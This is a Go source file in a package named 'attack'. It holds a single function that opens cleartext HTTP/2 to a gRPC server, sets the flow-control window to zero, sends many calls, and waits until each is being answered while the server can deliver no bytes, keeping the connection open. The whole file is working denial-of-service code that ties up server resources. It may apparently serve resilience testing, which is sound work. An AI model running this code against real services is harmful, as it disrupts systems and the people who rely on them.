package attack

import (
	"bytes"
	"fmt"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// TakeNothing makes calls by gRPC without TLS over a connection, each with one message, and lets no byte of
// an answer be sent: its windows are shut. It returns when all of them are being answered. The
// connection stays open.
func TakeNothing(conn net.Conn, path string, calls int, message []byte) error {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return fmt.Errorf("begin HTTP/2: %w", err)
	}
	f := http2.NewFramer(conn, conn)
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return fmt.Errorf("shut the windows: %w", err)
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for i := range calls {
		head.Reset()
		for _, h := range [][2]string{
			{":method", "POST"},
			{":scheme", "http"},
			{":path", path},
			{":authority", conn.RemoteAddr().String()},
			{"content-type", "application/grpc"},
			{"te", "trailers"},
		} {
			if err := encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return fmt.Errorf("write header: %w", err)
			}
		}
		stream := uint32(2*i + 1)
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
			return fmt.Errorf("call %d: %w", i, err)
		}
		if err := f.WriteData(stream, true, message); err != nil {
			return fmt.Errorf("call %d: %w", i, err)
		}
	}
	for answered := 0; answered < calls; {
		frame, err := f.ReadFrame()
		if err != nil {
			return fmt.Errorf("wait for answer %d: %w", answered, err)
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				if err := f.WriteSettingsAck(); err != nil {
					return fmt.Errorf("take settings: %w", err)
				}
			}
		case *http2.HeadersFrame:
			answered++
		}
	}
	return nil
}
